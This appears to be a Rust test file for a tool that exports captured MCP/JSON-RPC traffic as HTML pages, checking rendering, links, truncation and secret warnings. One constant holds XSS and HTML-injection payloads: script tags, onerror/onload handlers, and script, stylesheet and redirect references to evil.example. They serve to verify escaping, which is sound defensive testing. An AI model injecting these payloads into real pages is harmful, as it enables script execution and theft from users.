//! The page as it is written, and what must not be on it.

use std::{collections::BTreeSet, fs::File, path::Path};

use super::{SCRIPT, STYLE, hash};
use crate::{
    capture::{Record, Timestamp},
    cli::{
        args::ExportFormat,
        export::formats::{chosen, write},
    },
    protocol::testing::exchanges,
    store::tape::{Spool, TapeHeader},
};

/// The page of a tape.
fn page(tape: File, revealed: bool) -> String {
    let format = chosen(Some(ExportFormat::Html), Path::new("-")).expect("one of them");
    let out = tempfile::NamedTempFile::new().expect("a file");
    write(format, tape, None, revealed, out.as_file()).expect("written");
    std::fs::read_to_string(out.path()).expect("UTF-8")
}

fn page_of(exchanges: &[Vec<Record>]) -> String {
    let mut spool = Spool::new(tempfile::tempfile().expect("a file"));
    for record in exchanges.iter().flatten() {
        spool.push(record.clone()).expect("written");
    }
    let mut tape = tempfile::tempfile().expect("a file");
    let header = TapeHeader::new(Timestamp(0), "test", Vec::new());
    spool.finish(header, &mut tape).expect("written");
    page(tape, false)
}

/// A page without its own style and script.
fn told(page: &str) -> String {
    let page = page.replace(STYLE, "").replace(SCRIPT, "");
    page.replace(&hash(STYLE), "STYLE").replace(&hash(SCRIPT), "SCRIPT")
}

#[test]
fn pages_look_like_this() {
    for name in ["2025-11-25/hand-made", "router-bridge/ndjson"] {
        let tape =
            Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("captures/{name}.tape.jsonl"));
        let page = page(File::open(tape).expect("it is there"), false);
        insta::assert_snapshot!(name.replace('/', "@"), told(&page));
    }
}

const HOSTILE: &str = r#"
    >> POST http://localhost:3000/<script>alert(1)</script>?"onload="x
    Mcp-Session-Id: a"><img src=x onerror=alert(1)>
    X-Hostile: </table><script src=//evil.example/x.js></script>

    {"jsonrpc":"2.0","id":"<b>","method":"tools/call","params":{"name":"</span><svg onload=alert(1)>\u202e"}}
    << 200
    content-type: text/event-stream

    event: <iframe src=//evil.example>
    id: "><link rel=stylesheet href=//evil.example/x.css>
    data: {"jsonrpc":"2.0","id":"<b>","result":{"content":"</pre></script><img src=x onerror=alert(1)>"}}

    >> POST http://localhost:3000/mcp
    Mcp-Session-Id: a"><img src=x onerror=alert(1)>

    {"jsonrpc":"2.0","id":2,"method":"<style>@import '//evil.example'</style>"}
    << 404

    <meta http-equiv=refresh content=0;url=//evil.example>
"#;

/// The elements that the page is made of.
const ELEMENTS: &[&str] = &[
    "!DOCTYPE",
    "a",
    "b",
    "body",
    "button",
    "caption",
    "code",
    "dd",
    "desc",
    "details",
    "div",
    "dl",
    "dt",
    "footer",
    "foreignObject",
    "g",
    "h1",
    "h2",
    "h3",
    "head",
    "header",
    "html",
    "input",
    "label",
    "li",
    "line",
    "main",
    "marker",
    "meta",
    "ol",
    "output",
    "p",
    "path",
    "pre",
    "rect",
    "script",
    "section",
    "span",
    "strong",
    "style",
    "summary",
    "svg",
    "table",
    "tbody",
    "td",
    "text",
    "th",
    "thead",
    "title",
    "tr",
    "ul",
];

/// Their attributes.
const ATTRIBUTES: &[&str] = &[
    "aria-hidden",
    "aria-labelledby",
    "charset",
    "class",
    "content",
    "d",
    "data-list",
    "data-open",
    "data-title",
    "dx",
    "height",
    "hidden",
    "href",
    "html",
    "http-equiv",
    "id",
    "lang",
    "marker-end",
    "marker-start",
    "markerHeight",
    "markerUnits",
    "markerWidth",
    "name",
    "orient",
    "placeholder",
    "preserveAspectRatio",
    "refX",
    "refY",
    "role",
    "scope",
    "tabindex",
    "text-anchor",
    "title",
    "type",
    "viewBox",
    "width",
    "x",
    "x1",
    "x2",
    "y",
    "y1",
    "y2",
];

#[test]
fn what_the_wire_says_is_text() {
    let page = told(&page_of(&exchanges(HOSTILE)));
    for (at, _) in page.match_indices('<') {
        let name = page[at..].trim_start_matches(['<', '/']);
        let name = name.split([' ', '>', '/', '\n']).next().expect("a name");
        assert!(ELEMENTS.contains(&name), "{name}");
    }
    for tag in ["<script>", "<style>"] {
        assert_eq!(page.matches(tag).count(), 1, "{tag}");
    }
    // Nothing of a tag is the wire's but the values of attributes, which are escaped.
    for (at, _) in page.match_indices('<') {
        let tag = page[at..].split('>').next().expect("its end");
        let names = tag.split('"').step_by(2).collect::<String>().replace(['<', '=', '/'], " ");
        let foreign = names.split_whitespace().skip(1).find(|name| !ATTRIBUTES.contains(name));
        assert_eq!(foreign, None, "{tag}");
        let leads = tag.split_once("href=\"").map(|(_, value)| value);
        assert!(leads.is_none_or(|leads| leads.starts_with('#')), "{tag}");
    }
    assert!(!page.contains('\u{202e}') && page.contains("\\u202e"), "{page}");
    assert!(page.contains("&lt;img src=x onerror=alert(1)&gt;"));
}

#[test]
fn every_link_leads_somewhere() {
    for tape in crate::cli::export::formats::tests::tapes() {
        let page = page(File::open(&tape).expect("it is there"), false);
        let values = |before: &'static str| -> BTreeSet<&str> {
            page.split(before).skip(1).filter_map(|rest| rest.split('"').next()).collect()
        };
        let (links, ids) = (values(" href=\"#"), values(" id=\""));
        let nowhere: Vec<_> = links.difference(&ids).collect();
        assert!(nowhere.is_empty() && !links.is_empty(), "{}: {nowhere:?}", tape.display());
    }
}

#[test]
fn a_page_with_secrets_says_so() {
    let tape = Path::new(env!("CARGO_MANIFEST_DIR")).join("captures/2025-11-25/demo.tape.jsonl");
    let open = || File::open(&tape).expect("it is there");
    assert!(page(open(), true).contains("keep it to yourself"));
    assert!(!page(open(), false).contains("keep it to yourself"));
}

#[test]
fn a_page_of_much_says_what_is_left_out() {
    let call = |n: usize| {
        format!(
            ">> POST http://localhost:3000/mcp\nMcp-Session-Id: a\n\n{{\"jsonrpc\":\"2.0\",\"id\":{n},\
             \"method\":\"ping\"}}\n<< 200\n\n{{\"jsonrpc\":\"2.0\",\"id\":{n},\"result\":{{\"text\":\
             \"{}\"}}}}\n",
            "x".repeat(if n == 0 { 40_000 } else { 1 })
        )
    };
    let transcript: String = (0..1_050).map(call).collect();
    let page = page_of(&exchanges(&transcript));
    for said in [
        "The first 400 of 2100 rows are drawn",
        "The first 200 of 1050 exchanges are drawn",
        "The first 1000 of 2100 messages are drawn",
        "The first 400 of 1050 exchanges are drawn",
        "16.4 kB of its text are drawn; it has 40.0 kB",
        "wiretape export 00000000-",
    ] {
        assert!(page.contains(said), "{said}");
    }
    assert!(page.len() < 4 << 20, "{}", page.len());
}
